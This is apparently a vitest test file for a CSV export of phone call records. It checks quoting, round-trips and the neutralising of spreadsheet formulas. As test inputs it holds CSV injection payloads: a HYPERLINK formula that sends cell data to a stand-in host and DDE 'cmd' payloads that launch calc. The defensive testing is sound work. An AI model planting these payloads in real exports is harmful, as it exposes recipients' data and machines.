import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CallLegDto } from '../calls/calls.dto.js';
import { CALL_CSV_COLUMNS, callCsvHeader, callCsvLine, csvField, csvLine, neutraliseFormula } from './call-csv.js';

/** The test oracle: csv-parse, strict (no trimming, no relaxed quotes, CRLF records). */
const parseCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false });

const leg: CallLegDto = {
  provider: 'twilio', accountId: 'AC1', callId: 'CA1', parentCallId: null, rootCallId: 'CA1', depth: 0, direction: 'inbound',
  from: '+1 (312) 555-0100', to: '"Sales", desk\r\nline 2', status: 'completed', startedAt: '2026-01-05T14:05:50.000Z',
  answeredAt: null, endedAt: null, ringDurationSec: 6, talkDurationSec: 74.5, durationSource: { ring: 'provider', talk: 'derived' },
  answeredBy: null, endReason: 'hangup, caller', sipStatus: 200, invalidFields: [], parkedEvents: 0,
  recordings: [
    { recordingId: 'RE1', callId: 'CA1', rootCallId: 'CA1', provider: 'twilio', url: 'https://x/a.wav', durationSec: 3, scope: 'call', createdAt: '2026-01-05T14:07:00.000Z' },
    { recordingId: 'RE2', callId: 'CA1', rootCallId: 'CA1', provider: 'twilio', url: 'https://x/b.wav', durationSec: 3, scope: 'call', createdAt: '2026-01-05T14:08:00.000Z' },
  ],
  conferenceIds: [], final: true, linkConflict: false, eventCount: 4, lastPosition: '42', verification: 'imported',
  answeredByDetail: 'machine_end_beep', hangupBy: null, endReasonDetail: '32009: Your TwiML tried to Dial', timeSource: { started: 'derived', answered: null, ended: 'provider' }, pddSec: null,
};

describe('CSV export rows', () => {
  it('quotes only fields that need it, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField(null)).toBe('');
    expect(csvField(74.5)).toBe('74.5');
    expect(csvField(false)).toBe('false');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded')).toBe('" padded"');
  });

  it('writes a header and a row that an RFC 4180 reader reads back field for field', () => {
    const rows = parseCsv(callCsvHeader() + callCsvLine(leg));
    expect(rows[0]).toEqual([...CALL_CSV_COLUMNS]);
    const r = Object.fromEntries(rows[1]!.map((v, i) => [CALL_CSV_COLUMNS[i], v]));
    // Not a bare E.164 number, so a spreadsheet would evaluate it: prefixed (see the CSV injection test).
    expect(r).toMatchObject({ to: '"Sales", desk\r\nline 2', from: "'+1 (312) 555-0100", endReason: 'hangup, caller', parentCallId: '', recordingIds: 'RE1;RE2', ringDurationSource: 'provider', talkDurationSec: '74.5', verification: 'imported' });
  });

  it('exports the AMD detail, the hang-up side, the end reason detail and the clock of each time (issue 11)', () => {
    const rows = parseCsv(callCsvHeader() + callCsvLine(leg));
    const r = Object.fromEntries(rows[1]!.map((v, i) => [CALL_CSV_COLUMNS[i], v]));
    expect(r).toMatchObject({ answeredByDetail: 'machine_end_beep', hangupBy: '', endReasonDetail: '32009: Your TwiML tried to Dial', startedAtSource: 'derived', endedAtSource: 'provider' });
  });

  // A property over 100 random rows: 3 s alone on a loaded 2-core machine, past the default 5 s inside the full run.
  it('round-trips any text (formula-like text with its leading quote)', { timeout: 60_000 }, () => {
    fc.assert(fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 }), (fields) => {
        expect(parseCsv(csvLine(fields))).toEqual([fields.map(neutraliseFormula)]);
      }));
  });

  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection), but keeps E.164 numbers readable', () => {
    for (const evil of ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '+', '=']) {
      const [[cell]] = parseCsv(csvLine([evil]));
      expect(cell).toBe(`'${evil}`);
    }
    for (const phone of ['+13125550100', '+442071838750', '+123456']) expect(csvField(phone)).toBe(phone);
    // Not E.164 (too short, too long, or with other characters): prefixed like any formula.
    for (const almost of ['+12345', '+1234567890123456', '+1 312 555 0100', '+1312555010a', '+13125550100=1']) expect(csvField(almost).startsWith("'")).toBe(true);
    // Numbers and booleans are values, not text, and stay as they are; so does text that merely contains the characters.
    expect(csvField(-1)).toBe('-1');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('CA-1')).toBe('CA-1');
    const row = parseCsv(callCsvLine({ ...leg, from: '+13125550147', to: '=cmd|"/C calc"!A0', endReason: '@evil' }))[0]!;
    const r = Object.fromEntries(row.map((v, i) => [CALL_CSV_COLUMNS[i], v]));
    expect(r).toMatchObject({ from: '+13125550147', to: '\'=cmd|"/C calc"!A0', endReason: "'@evil" });
  });
});
